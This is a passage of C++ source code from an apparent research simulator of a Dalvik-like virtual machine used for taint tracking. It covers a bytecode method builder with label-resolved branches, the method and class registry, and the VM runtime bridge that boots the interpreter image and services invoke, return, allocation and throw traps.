    return emit2(Bc::SgetObject, aa, idx);
}

MethodBuilder &
MethodBuilder::sput(uint8_t aa, uint16_t idx)
{
    return emit2(Bc::Sput, aa, idx);
}

MethodBuilder &
MethodBuilder::sputObject(uint8_t aa, uint16_t idx)
{
    return emit2(Bc::SputObject, aa, idx);
}

MethodBuilder &
MethodBuilder::aget(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::Aget, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::agetChar(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::AgetChar, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::agetObject(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::AgetObject, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::aput(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::Aput, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::aputChar(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::AputChar, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::aputObject(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::AputObject, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::invokeVirtual(uint16_t vtable_slot, uint8_t argc,
                             uint16_t first_arg)
{
    emit2(Bc::InvokeVirtual, argc, vtable_slot);
    m.code.push_back(first_arg);
    return *this;
}

MethodBuilder &
MethodBuilder::invokeStatic(uint16_t method, uint8_t argc,
                            uint16_t first_arg)
{
    emit2(Bc::InvokeStatic, argc, method);
    m.code.push_back(first_arg);
    return *this;
}

MethodBuilder &
MethodBuilder::invokeDirect(uint16_t method, uint8_t argc,
                            uint16_t first_arg)
{
    emit2(Bc::InvokeDirect, argc, method);
    m.code.push_back(first_arg);
    return *this;
}

MethodBuilder &
MethodBuilder::gotoLabel(const std::string &target)
{
    return branch1(Bc::Goto, 0, target);
}

MethodBuilder &
MethodBuilder::ifEq(uint8_t a, uint8_t b, const std::string &target)
{
    return branch2(Bc::IfEq, nibbles(a, b), target);
}

MethodBuilder &
MethodBuilder::ifNe(uint8_t a, uint8_t b, const std::string &target)
{
    return branch2(Bc::IfNe, nibbles(a, b), target);
}

MethodBuilder &
MethodBuilder::ifLt(uint8_t a, uint8_t b, const std::string &target)
{
    return branch2(Bc::IfLt, nibbles(a, b), target);
}

MethodBuilder &
MethodBuilder::ifGe(uint8_t a, uint8_t b, const std::string &target)
{
    return branch2(Bc::IfGe, nibbles(a, b), target);
}

MethodBuilder &
MethodBuilder::ifGt(uint8_t a, uint8_t b, const std::string &target)
{
    return branch2(Bc::IfGt, nibbles(a, b), target);
}

MethodBuilder &
MethodBuilder::ifLe(uint8_t a, uint8_t b, const std::string &target)
{
    return branch2(Bc::IfLe, nibbles(a, b), target);
}

MethodBuilder &
MethodBuilder::ifEqz(uint8_t aa, const std::string &target)
{
    return branch2(Bc::IfEqz, aa, target);
}

MethodBuilder &
MethodBuilder::ifNez(uint8_t aa, const std::string &target)
{
    return branch2(Bc::IfNez, aa, target);
}

MethodBuilder &
MethodBuilder::ifLtz(uint8_t aa, const std::string &target)
{
    return branch2(Bc::IfLtz, aa, target);
}

MethodBuilder &
MethodBuilder::ifGez(uint8_t aa, const std::string &target)
{
    return branch2(Bc::IfGez, aa, target);
}

MethodBuilder &
MethodBuilder::binop(Bc op, uint8_t aa, uint8_t bb, uint8_t cc)
{
    pift_assert(format(op) == Format::F23x, "binop wants F23x opcode");
    return emit2(op, aa, static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::binop2addr(Bc op, uint8_t a, uint8_t b)
{
    pift_assert(format(op) == Format::F12x,
                "binop2addr wants F12x opcode");
    return emit1(op, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::addIntLit8(uint8_t aa, uint8_t bb, int8_t lit)
{
    return emit2(Bc::AddIntLit8, aa,
                 static_cast<uint16_t>(
                     bb | (static_cast<uint8_t>(lit) << 8)));
}

MethodBuilder &
MethodBuilder::mulIntLit8(uint8_t aa, uint8_t bb, int8_t lit)
{
    return emit2(Bc::MulIntLit8, aa,
                 static_cast<uint16_t>(
                     bb | (static_cast<uint8_t>(lit) << 8)));
}

MethodBuilder &
MethodBuilder::intToChar(uint8_t a, uint8_t b)
{
    return emit1(Bc::IntToChar, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::intToByte(uint8_t a, uint8_t b)
{
    return emit1(Bc::IntToByte, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::moveWide(uint8_t a, uint8_t b)
{
    return emit1(Bc::MoveWide, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::addLong(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::AddLong, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

MethodBuilder &
MethodBuilder::mulLong(uint8_t aa, uint8_t bb, uint8_t cc)
{
    return emit2(Bc::MulLong, aa,
                 static_cast<uint16_t>(bb | (cc << 8)));
}

Method
MethodBuilder::finish()
{
    pift_assert(!finished, "builder finished twice");
    finished = true;
    for (const auto &fix : fixups) {
        auto it = labels.find(fix.label);
        if (it == labels.end())
            pift_panic("dangling branch to '%s' in method '%s'",
                       fix.label.c_str(), m.name.c_str());
        int offset = static_cast<int>(it->second) -
            static_cast<int>(fix.inst_unit);
        if (fix.in_unit0_high) {
            pift_assert(offset >= -128 && offset <= 127,
                        "goto offset out of range in '%s'",
                        m.name.c_str());
            m.code[fix.offset_unit] = static_cast<uint16_t>(
                (m.code[fix.offset_unit] & 0x00ff) |
                ((offset & 0xff) << 8));
        } else {
            m.code[fix.offset_unit] =
                static_cast<uint16_t>(static_cast<int16_t>(offset));
        }
    }
    return std::move(m);
}

} // namespace pift::dalvik
