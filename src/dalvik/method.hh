/**
 * @file
 * Methods, classes, string pool and the Dex registry.
 *
 * A Dex is the loaded-code universe of one simulated device image:
 * bytecode methods (app code and the "system library" runtime
 * methods), native methods (runtime bridge callouts), classes with
 * vtables for virtual dispatch, the interned string pool, and static
 * fields. Figure 10's app-vs-library bytecode census is a static scan
 * over this registry.
 */

#ifndef PIFT_DALVIK_METHOD_HH
#define PIFT_DALVIK_METHOD_HH

#include <cstdint>
#include <functional>
#include <string>
#include <unordered_map>
#include <vector>

#include "dalvik/bytecode.hh"
#include "support/types.hh"

namespace pift::dalvik
{

class Vm;

using MethodId = uint16_t;
using ClassId = uint32_t;

/** Sentinel for "no method". */
inline constexpr MethodId no_method = 0xffff;

/** Where a method lives, for the Figure 10 census. */
enum class MethodOrigin : uint8_t { App, SystemLib };

/** Arguments passed to a native method implementation. */
struct NativeCall
{
    /** Simulated address of the k-th argument's caller vreg. */
    Addr arg_addr(unsigned k) const { return args_base + 4 * k; }
    Addr args_base = 0;   //!< address of the first argument vreg
    unsigned argc = 0;    //!< number of argument words
};

/** Host implementation of a native method. */
using NativeFn = std::function<void(Vm &, const NativeCall &)>;

/** One method: bytecode or native. */
struct Method
{
    std::string name;
    uint16_t nregs = 0;        //!< frame size in vregs
    uint16_t nins = 0;         //!< argument words (last nins vregs)
    MethodOrigin origin = MethodOrigin::SystemLib;

    std::vector<uint16_t> code; //!< 16-bit code units (bytecode only)
    int catch_offset = -1;      //!< catch-all handler (unit index)

    bool is_native = false;
    NativeFn native;

    Addr code_addr = 0;         //!< where the units live once loaded
};

/** One class: instance shape plus virtual dispatch table. */
struct ClassInfo
{
    std::string name;
    uint32_t field_count = 0;   //!< instance field words
    uint32_t elem_bytes = 0;    //!< element size; non-zero = array
    std::vector<MethodId> vtable;
};

/** The loaded-code registry ("dex image"). */
class Dex
{
  public:
    /**
     * Callback run on every method as it is registered. Installed by
     * debug builds to run the static bytecode verifier at load time;
     * kept as an opaque hook so the registry does not depend on the
     * analysis layer.
     */
    using VerifyHook = std::function<void(const Method &, const Dex &)>;

    Dex();

    /** Register a bytecode method; returns its id. */
    MethodId addMethod(Method m);

    /** Run @p hook at the end of every subsequent addMethod(). */
    void setVerifyHook(VerifyHook hook) { verify_hook = std::move(hook); }

    /**
     * Register a native method.
     * @param name diagnostic name
     * @param nins argument words
     * @param fn host implementation
     * @param origin census bucket
     */
    MethodId addNative(const std::string &name, uint16_t nins,
                       NativeFn fn,
                       MethodOrigin origin = MethodOrigin::SystemLib);

    Method &method(MethodId id);
    const Method &method(MethodId id) const;
    size_t methodCount() const { return methods.size(); }

    /** Look up a method id by name; panics if missing. */
    MethodId findMethod(const std::string &name) const;

    ClassId addClass(ClassInfo info);
    ClassInfo &classInfo(ClassId id);
    const ClassInfo &classInfo(ClassId id) const;
    size_t classCount() const { return classes.size(); }

    /** Intern @p s; returns its string-pool index. */
    uint16_t addString(const std::string &s);
    const std::vector<std::string> &stringPool() const { return pool; }

    /** Allocate a static field word; returns its index. */
    uint16_t addStatic(const std::string &name);
    size_t staticCount() const { return statics.size(); }

    /** Well-known classes created by the constructor. */
    ClassId objectClass() const { return cls_object; }
    ClassId stringClass() const { return cls_string; }
    ClassId charArrayClass() const { return cls_char_array; }
    ClassId intArrayClass() const { return cls_int_array; }
    ClassId objectArrayClass() const { return cls_object_array; }

  private:
    std::vector<Method> methods;
    std::unordered_map<std::string, MethodId> method_names;
    VerifyHook verify_hook;
    std::vector<ClassInfo> classes;
    std::vector<std::string> pool;
    std::unordered_map<std::string, uint16_t> pool_index;
    std::vector<std::string> statics;

    ClassId cls_object = 0;
    ClassId cls_string = 0;
    ClassId cls_char_array = 0;
    ClassId cls_int_array = 0;
    ClassId cls_object_array = 0;
};

/**
 * Fluent builder of bytecode methods with label-based branches.
 * Branch offsets are resolved (in code units, relative to the branch
 * instruction) when finish() is called.
 */
class MethodBuilder
{
  public:
    /**
     * @param name method name (unique within the Dex)
     * @param nregs frame size in vregs
     * @param nins argument words (arrive in the last nins vregs)
     */
    MethodBuilder(std::string name, uint16_t nregs, uint16_t nins);

    /** Tag the method for the Figure 10 census. */
    MethodBuilder &origin(MethodOrigin o);

    /** Bind @p name to the next instruction. */
    MethodBuilder &label(const std::string &name);

    /** Mark the catch-all exception handler entry point. */
    MethodBuilder &catchHere();

    MethodBuilder &nop();
    MethodBuilder &move(uint8_t a, uint8_t b);
    MethodBuilder &moveFrom16(uint8_t aa, uint16_t bbbb);
    MethodBuilder &moveObject(uint8_t a, uint8_t b);
    MethodBuilder &moveResult(uint8_t aa);
    MethodBuilder &moveResultObject(uint8_t aa);
    MethodBuilder &moveException(uint8_t aa);
    MethodBuilder &returnVoid();
    MethodBuilder &returnValue(uint8_t aa);
    MethodBuilder &returnObject(uint8_t aa);
    MethodBuilder &const4(uint8_t a, int8_t value);
    MethodBuilder &const16(uint8_t aa, int16_t value);
    MethodBuilder &constString(uint8_t aa, uint16_t pool_idx);
    MethodBuilder &newInstance(uint8_t aa, uint16_t class_id);
    MethodBuilder &newArray(uint8_t a, uint8_t b, uint16_t class_id);
    MethodBuilder &checkCast(uint8_t aa, uint16_t class_id);
    MethodBuilder &arrayLength(uint8_t a, uint8_t b);
    MethodBuilder &throwVreg(uint8_t aa);
    MethodBuilder &iget(uint8_t a, uint8_t b, uint16_t field_off);
    MethodBuilder &igetObject(uint8_t a, uint8_t b, uint16_t field_off);
    MethodBuilder &iput(uint8_t a, uint8_t b, uint16_t field_off);
    MethodBuilder &iputObject(uint8_t a, uint8_t b, uint16_t field_off);
    MethodBuilder &sget(uint8_t aa, uint16_t idx);
    MethodBuilder &sgetObject(uint8_t aa, uint16_t idx);
    MethodBuilder &sput(uint8_t aa, uint16_t idx);
    MethodBuilder &sputObject(uint8_t aa, uint16_t idx);
    MethodBuilder &aget(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &agetChar(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &agetObject(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &aput(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &aputChar(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &aputObject(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &invokeVirtual(uint16_t vtable_slot, uint8_t argc,
                                 uint16_t first_arg);
    MethodBuilder &invokeStatic(uint16_t method, uint8_t argc,
                                uint16_t first_arg);
    MethodBuilder &invokeDirect(uint16_t method, uint8_t argc,
                                uint16_t first_arg);
    MethodBuilder &gotoLabel(const std::string &target);
    MethodBuilder &ifEq(uint8_t a, uint8_t b, const std::string &target);
    MethodBuilder &ifNe(uint8_t a, uint8_t b, const std::string &target);
    MethodBuilder &ifLt(uint8_t a, uint8_t b, const std::string &target);
    MethodBuilder &ifGe(uint8_t a, uint8_t b, const std::string &target);
    MethodBuilder &ifGt(uint8_t a, uint8_t b, const std::string &target);
    MethodBuilder &ifLe(uint8_t a, uint8_t b, const std::string &target);
    MethodBuilder &ifEqz(uint8_t aa, const std::string &target);
    MethodBuilder &ifNez(uint8_t aa, const std::string &target);
    MethodBuilder &ifLtz(uint8_t aa, const std::string &target);
    MethodBuilder &ifGez(uint8_t aa, const std::string &target);
    MethodBuilder &binop(Bc op, uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &binop2addr(Bc op, uint8_t a, uint8_t b);
    MethodBuilder &addIntLit8(uint8_t aa, uint8_t bb, int8_t lit);
    MethodBuilder &mulIntLit8(uint8_t aa, uint8_t bb, int8_t lit);
    MethodBuilder &intToChar(uint8_t a, uint8_t b);
    MethodBuilder &intToByte(uint8_t a, uint8_t b);
    MethodBuilder &moveWide(uint8_t a, uint8_t b);
    MethodBuilder &addLong(uint8_t aa, uint8_t bb, uint8_t cc);
    MethodBuilder &mulLong(uint8_t aa, uint8_t bb, uint8_t cc);

    /** Resolve branches and return the method. */
    Method finish();

  private:
    MethodBuilder &emit1(Bc bc, uint16_t high_byte_bits);
    MethodBuilder &emit2(Bc bc, uint16_t high, uint16_t unit1);
    MethodBuilder &branch1(Bc bc, uint16_t high,
                           const std::string &target);
    MethodBuilder &branch2(Bc bc, uint16_t high,
                           const std::string &target);

    Method m;
    std::unordered_map<std::string, size_t> labels;
    struct Fixup
    {
        size_t inst_unit;    //!< unit index of the instruction start
        size_t offset_unit;  //!< unit index holding the offset
        bool in_unit0_high;  //!< F10t: offset lives in unit0 bits 8-15
        std::string label;
    };
    std::vector<Fixup> fixups;
    bool finished = false;
};

} // namespace pift::dalvik

#endif // PIFT_DALVIK_METHOD_HH
