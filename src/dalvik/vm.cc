#include "dalvik/vm.hh"

#include <algorithm>
#include <array>
#include <cstring>

#include "support/logging.hh"

namespace pift::dalvik
{

namespace
{

/** Bit-cast helpers for the float ABI routines. */
float
asFloat(uint32_t bits)
{
    float f;
    std::memcpy(&f, &bits, sizeof(f));
    return f;
}

uint32_t
asBits(float f)
{
    uint32_t bits;
    std::memcpy(&bits, &f, sizeof(bits));
    return bits;
}

/** Save/restore of the full register file around native routines. */
class RegGuard
{
  public:
    explicit RegGuard(sim::Cpu &cpu) : cpu_ref(cpu)
    {
        for (RegIndex r = 0; r < 16; ++r)
            regs[r] = cpu.reg(r);
    }

    ~RegGuard()
    {
        for (RegIndex r = 0; r < 16; ++r)
            cpu_ref.setReg(r, regs[r]);
    }

  private:
    sim::Cpu &cpu_ref;
    std::array<uint32_t, 16> regs{};
};

} // anonymous namespace

Vm::Vm(sim::Cpu &cpu, Dex &dex, runtime::Heap &heap)
    : cpu_ref(cpu), dex_ref(dex), heap_ref(heap),
      frame_alloc(mem::frame_base, mem::frame_limit),
      scratch_alloc(mem::scratch_base, mem::scratch_base + 0xfff)
{}

void
Vm::boot()
{
    pift_assert(!booted, "vm booted twice");

    handlers = emitHandlers();
    cpu_ref.loadProgram(handlers.entry);
    for (const auto &prog : handlers.handlers)
        cpu_ref.loadProgram(prog);

    natives = runtime::emitRoutines();
    for (const auto *prog : natives.all())
        cpu_ref.loadProgram(*prog);

    // Lay out every bytecode method's code units.
    mem::Memory &memory = cpu_ref.memory();
    Addr code_at = mem::code_base;
    for (MethodId id = 0; id < dex_ref.methodCount(); ++id) {
        Method &m = dex_ref.method(id);
        if (m.is_native)
            continue;
        pift_assert(!m.code.empty(), "bytecode method '%s' has no code",
                    m.name.c_str());
        m.code_addr = code_at;
        for (uint16_t unit : m.code) {
            memory.write16(code_at, unit);
            code_at += 2;
        }
        code_at = (code_at + 3) & ~Addr(3);
        pift_assert(code_at < mem::code_limit, "code region overflow");
    }

    // Intern the string pool; the table itself is VM metadata.
    Addr pool_base = mem::metadata_base;
    const auto &pool = dex_ref.stringPool();
    for (size_t i = 0; i < pool.size(); ++i) {
        runtime::Ref ref =
            heap_ref.allocString(dex_ref.stringClass(), pool[i]);
        memory.write32(pool_base + static_cast<Addr>(4 * i), ref);
    }

    // Statics live on the heap (they hold program data).
    size_t nstatics = std::max<size_t>(dex_ref.staticCount(), 1);
    runtime::Ref statics_arr = heap_ref.allocArray(
        dex_ref.intArrayClass(), static_cast<uint32_t>(nstatics), 4);
    Addr statics_base = heap_ref.dataAddr(statics_arr);

    // Thread block.
    memory.write32(mem::thread_base + mem::thread_retval_offset, 0);
    memory.write32(mem::thread_base + mem::thread_exception_offset, 0);
    memory.write32(mem::thread_base + mem::thread_pool_offset,
                   pool_base);
    memory.write32(mem::thread_base + mem::thread_statics_offset,
                   statics_base);

    cpu_ref.setSvcHandler(
        [this](sim::Cpu &cpu, uint32_t num) { onSvc(cpu, num); });

    booted = true;
}

uint32_t
Vm::execute(MethodId id, const std::vector<uint32_t> &args)
{
    pift_assert(booted, "execute() before boot()");
    const Method &m = dex_ref.method(id);
    pift_assert(!m.is_native, "cannot execute a native method '%s'",
                m.name.c_str());
    pift_assert(args.size() == m.nins,
                "method '%s' wants %u args, got %zu", m.name.c_str(),
                m.nins, args.size());

    RegGuard guard(cpu_ref);

    Addr mark = frame_alloc.mark();
    Addr fp = frame_alloc.alloc(4u * std::max<uint32_t>(m.nregs, 1), 8);
    for (size_t k = 0; k < args.size(); ++k) {
        memory().write32(
            fp + 4u * (m.nregs - m.nins + static_cast<uint32_t>(k)),
            args[k]);
    }
    stack.push_back({id, fp, 0, cpu_ref.reg(r_fp), mark, true});

    uncaught = false;
    cpu_ref.setReg(r_pc_bc, m.code_addr);
    cpu_ref.setReg(r_fp, fp);
    cpu_ref.setReg(r_self, mem::thread_base);
    cpu_ref.setReg(r_ibase, mem::handler_base);
    cpu_ref.setPc(mem::mterp_entry_addr);
    cpu_ref.run();

    return retval();
}

void
Vm::onSvc(sim::Cpu &cpu, uint32_t num)
{
    (void)cpu;
    switch (static_cast<Svc>(num)) {
      case Svc::Invoke:      doInvoke(); break;
      case Svc::Return:      doReturn(); break;
      case Svc::NewInstance: doNewInstance(); break;
      case Svc::NewArray:    doNewArray(); break;
      case Svc::Throw:       doThrow(); break;
      case Svc::AbiIdiv:
      case Svc::AbiIrem:
      case Svc::AbiFadd:
      case Svc::AbiFmul:
      case Svc::AbiFdiv:
      case Svc::AbiI2f:
      case Svc::AbiF2i:
        doAbi(static_cast<Svc>(num));
        break;
      default:
        pift_panic("unknown svc #%u", num);
    }
}

void
Vm::fetchAndDispatch()
{
    // Host-side FETCH + GOTO_OPCODE: the real mterp performs these as
    // instructions; the bridge performs them directly when resuming
    // from a trap (documented undercount of a few dispatch
    // instructions per trap).
    Addr rpc = cpu_ref.reg(r_pc_bc);
    uint16_t unit = memory().read16(rpc);
    cpu_ref.setReg(r_inst, unit);
    cpu_ref.setPc(mem::handler_base +
                  static_cast<Addr>(unit & 0xff) *
                      mem::handler_slot_bytes);
}

void
Vm::doInvoke()
{
    Addr rpc = cpu_ref.reg(r_pc_bc);
    uint16_t unit0 = memory().read16(rpc);
    Bc op = static_cast<Bc>(unit0 & 0xff);
    unsigned argc = (unit0 >> 8) & 0xff;
    uint16_t ref = memory().read16(rpc + 2);
    uint16_t first_arg = memory().read16(rpc + 4);
    Addr caller_fp = cpu_ref.reg(r_fp);
    Addr ret_pc = rpc + 6;

    MethodId mid;
    if (op == Bc::InvokeVirtual) {
        pift_assert(argc >= 1, "virtual invoke without receiver");
        runtime::Ref recv =
            memory().read32(caller_fp + 4u * first_arg);
        pift_assert(recv != 0, "null receiver in invoke-virtual");
        ClassId cls = heap_ref.classOf(recv);
        const auto &vtable = dex_ref.classInfo(cls).vtable;
        pift_assert(ref < vtable.size(),
                    "vtable slot %u out of range for class %u", ref,
                    cls);
        mid = vtable[ref];
    } else {
        mid = ref;
    }

    const Method &target = dex_ref.method(mid);
    pift_assert(argc == target.nins,
                "invoke of '%s' with %u args (wants %u)",
                target.name.c_str(), argc, target.nins);

    if (target.is_native) {
        NativeCall call;
        call.args_base = caller_fp + 4u * first_arg;
        call.argc = argc;
        target.native(*this, call);
        cpu_ref.setReg(r_pc_bc, ret_pc);
        fetchAndDispatch();
        return;
    }

    Addr mark = frame_alloc.mark();
    Addr fp = frame_alloc.alloc(
        4u * std::max<uint32_t>(target.nregs, 1), 8);
    if (argc > 0) {
        runWordCopy(fp + 4u * (target.nregs - target.nins),
                    caller_fp + 4u * first_arg, argc);
    }
    stack.push_back({mid, fp, ret_pc, caller_fp, mark, false});
    cpu_ref.setReg(r_pc_bc, target.code_addr);
    cpu_ref.setReg(r_fp, fp);
    fetchAndDispatch();
}

void
Vm::doReturn()
{
    pift_assert(!stack.empty(), "return with empty call stack");
    Frame frame = stack.back();
    stack.pop_back();
    frame_alloc.rewind(frame.alloc_mark);
    if (frame.entry) {
        cpu_ref.setPc(sim::halt_stub_addr);
        return;
    }
    cpu_ref.setReg(r_fp, frame.caller_fp);
    cpu_ref.setReg(r_pc_bc, frame.ret_pc);
    fetchAndDispatch();
}

void
Vm::doNewInstance()
{
    Addr rpc = cpu_ref.reg(r_pc_bc);
    uint16_t unit0 = memory().read16(rpc);
    uint8_t aa = unit0 >> 8;
    uint16_t cls = memory().read16(rpc + 2);
    const ClassInfo &info = dex_ref.classInfo(cls);
    pift_assert(info.elem_bytes == 0,
                "new-instance of array class '%s'", info.name.c_str());
    runtime::Ref ref = heap_ref.allocObject(cls, info.field_count);
    memory().write32(cpu_ref.reg(r_fp) + 4u * aa, ref);
    cpu_ref.setReg(r_pc_bc, rpc + 4);
    fetchAndDispatch();
}

void
Vm::doNewArray()
{
    Addr rpc = cpu_ref.reg(r_pc_bc);
    uint16_t unit0 = memory().read16(rpc);
    uint8_t a = (unit0 >> 8) & 0xf;
    uint8_t b = unit0 >> 12;
    uint16_t cls = memory().read16(rpc + 2);
    const ClassInfo &info = dex_ref.classInfo(cls);
    pift_assert(info.elem_bytes != 0,
                "new-array of non-array class '%s'", info.name.c_str());
    uint32_t len = memory().read32(cpu_ref.reg(r_fp) + 4u * b);
    runtime::Ref ref = heap_ref.allocArray(cls, len, info.elem_bytes);
    memory().write32(cpu_ref.reg(r_fp) + 4u * a, ref);
    cpu_ref.setReg(r_pc_bc, rpc + 4);
    fetchAndDispatch();
}

void
Vm::doThrow()
{
    while (!stack.empty()) {
        Frame &frame = stack.back();
        const Method &m = dex_ref.method(frame.method);
        if (m.catch_offset >= 0) {
            cpu_ref.setReg(r_fp, frame.fp);
            cpu_ref.setReg(r_pc_bc, m.code_addr +
                           2u * static_cast<Addr>(m.catch_offset));
            fetchAndDispatch();
            return;
        }
        bool entry = frame.entry;
        frame_alloc.rewind(frame.alloc_mark);
        stack.pop_back();
        if (entry) {
            uncaught = true;
            cpu_ref.setPc(sim::halt_stub_addr);
            return;
        }
    }
    pift_panic("throw with empty call stack");
}

void
Vm::doAbi(Svc svc)
{
    uint32_t a = cpu_ref.reg(0);
    uint32_t b = cpu_ref.reg(1);
    uint32_t result = 0;
    switch (svc) {
      case Svc::AbiIdiv:
        result = b == 0 ? 0
            : static_cast<uint32_t>(static_cast<int32_t>(a) /
                                    static_cast<int32_t>(b));
        break;
      case Svc::AbiIrem:
        result = b == 0 ? 0
            : static_cast<uint32_t>(static_cast<int32_t>(a) %
                                    static_cast<int32_t>(b));
        break;
      case Svc::AbiFadd:
        result = asBits(asFloat(a) + asFloat(b));
        break;
      case Svc::AbiFmul:
        result = asBits(asFloat(a) * asFloat(b));
        break;
      case Svc::AbiFdiv:
        result = asFloat(b) == 0.0f ? 0
            : asBits(asFloat(a) / asFloat(b));
        break;
      case Svc::AbiI2f:
        result = asBits(static_cast<float>(static_cast<int32_t>(a)));
        break;
      case Svc::AbiF2i:
        result = static_cast<uint32_t>(
            static_cast<int32_t>(asFloat(a)));
        break;
      default:
        pift_panic("doAbi on non-abi svc");
    }
    callRoutine(natives.abi_spacer_addr);
    cpu_ref.setReg(0, result);
}

void
Vm::callRoutine(Addr entry)
{
    RegGuard guard(cpu_ref);
    cpu_ref.call(entry);
}

void
Vm::setRetval(uint32_t value)
{
    // A real traced store (natives return through actual code): this
    // also clears any stale taint on the retval slot, exactly as an
    // overwrite by a store instruction would under Algorithm 1.
    RegGuard guard(cpu_ref);
    cpu_ref.setReg(0, value);
    cpu_ref.setReg(1, mem::thread_base + mem::thread_retval_offset);
    cpu_ref.call(natives.word_store_addr);
}

uint32_t
Vm::retval() const
{
    return cpu_ref.memory().read32(mem::thread_base +
                                   mem::thread_retval_offset);
}

void
Vm::runStringCopy(Addr dst, Addr src, uint32_t count)
{
    if (count == 0)
        return;
    RegGuard guard(cpu_ref);
    cpu_ref.setReg(0, dst);
    cpu_ref.setReg(1, src);
    cpu_ref.setReg(5, count);
    cpu_ref.call(natives.string_copy_addr);
}

void
Vm::runWordCopy(Addr dst, Addr src, uint32_t words)
{
    if (words == 0)
        return;
    RegGuard guard(cpu_ref);
    cpu_ref.setReg(0, src);
    cpu_ref.setReg(2, dst);
    cpu_ref.setReg(3, words);
    cpu_ref.call(natives.word_copy_addr);
}

void
Vm::runCharFromWord(Addr word_addr, Addr char_addr)
{
    RegGuard guard(cpu_ref);
    cpu_ref.setReg(0, word_addr);
    cpu_ref.setReg(1, char_addr);
    cpu_ref.call(natives.char_from_word_addr);
}

void
Vm::runCharFromWordShort(Addr word_addr, Addr char_addr)
{
    RegGuard guard(cpu_ref);
    cpu_ref.setReg(0, word_addr);
    cpu_ref.setReg(1, char_addr);
    cpu_ref.call(natives.char_from_word_short_addr);
}

void
Vm::runWordDerive(Addr src_addr, Addr dst_addr)
{
    RegGuard guard(cpu_ref);
    cpu_ref.setReg(0, src_addr);
    cpu_ref.setReg(1, dst_addr);
    cpu_ref.call(natives.word_derive_addr);
}

void
Vm::setRetvalDerived(Addr src_addr, uint32_t value)
{
    runWordDerive(src_addr,
                  mem::thread_base + mem::thread_retval_offset);
    // Host-side fix-up of the stored value only; a second traced
    // store would untaint the slot the derivation just tainted.
    memory().write32(mem::thread_base + mem::thread_retval_offset,
                     value);
}

Addr
Vm::allocScratch(Addr bytes)
{
    return scratch_alloc.alloc(bytes);
}

runtime::Ref
Vm::newString(const std::string &value)
{
    return heap_ref.allocString(dex_ref.stringClass(), value);
}

std::string
Vm::readString(runtime::Ref ref)
{
    return heap_ref.readString(ref);
}

} // namespace pift::dalvik
