/**
 * @file
 * The Dalvik-like virtual machine.
 *
 * The VM owns no interpreter loop of its own: bytecode executes by
 * running the emitted mterp handlers on the simulated CPU, so every
 * virtual-register access is a real memory access in the trace. The
 * VM is the *runtime bridge*: it boots the interpreter image (handler
 * table, entry stub, native routines, method code, string pool,
 * statics), and services the SVC traps the handlers raise — invokes
 * (frame management; the argument copy runs as native load/store
 * code), returns, allocation, throw unwinding, and the ARM ABI
 * helpers.
 */

#ifndef PIFT_DALVIK_VM_HH
#define PIFT_DALVIK_VM_HH

#include <cstdint>
#include <vector>

#include "dalvik/handlers.hh"
#include "dalvik/method.hh"
#include "mem/layout.hh"
#include "mem/memory.hh"
#include "runtime/heap.hh"
#include "runtime/routines.hh"
#include "sim/cpu.hh"
#include "support/types.hh"

namespace pift::dalvik
{

/** The interpreter runtime: boot image + SVC bridge + call stack. */
class Vm
{
  public:
    /**
     * @param cpu simulated CPU (its memory is the device memory)
     * @param dex loaded-code registry; all methods must be registered
     *            before boot()
     * @param heap object heap shared with the framework
     */
    Vm(sim::Cpu &cpu, Dex &dex, runtime::Heap &heap);

    /**
     * Build and load the interpreter image: handlers, entry stub,
     * native routines, bytecode, string pool, statics and the thread
     * block. Must be called once, after all methods are registered.
     */
    void boot();

    /**
     * Run method @p id with @p args to completion on the CPU.
     * Arguments are host-written into the callee frame (they model
     * inputs arriving from outside the traced world). Re-entrant:
     * native methods may call back into execute().
     *
     * @return the method's return value (retval slot)
     */
    uint32_t execute(MethodId id, const std::vector<uint32_t> &args = {});

    /** True when the last execute() ended with an uncaught throw. */
    bool uncaughtException() const { return uncaught; }

    sim::Cpu &cpu() { return cpu_ref; }
    mem::Memory &memory() { return cpu_ref.memory(); }
    Dex &dex() { return dex_ref; }
    runtime::Heap &heap() { return heap_ref; }
    const runtime::Routines &routines() const { return natives; }

    /// @name Services for native-method implementations
    /// @{

    /** Host-write the method return value (object refs, clean data). */
    void setRetval(uint32_t value);

    /** Read the current retval slot. */
    uint32_t retval() const;

    /**
     * Run the Figure 1 char-copy loop on the CPU:
     * @p count characters from @p src to @p dst (both char addresses).
     */
    void runStringCopy(Addr dst, Addr src, uint32_t count);

    /** Copy @p words 4-byte words from @p src to @p dst on the CPU. */
    void runWordCopy(Addr dst, Addr src, uint32_t words);

    /**
     * Run the Float.toString data step: load the word at @p word_addr,
     * grind, store a derived char at @p char_addr (distance 10).
     */
    void runCharFromWord(Addr word_addr, Addr char_addr);

    /** Same with the short (Integer.toString, distance 3) routine. */
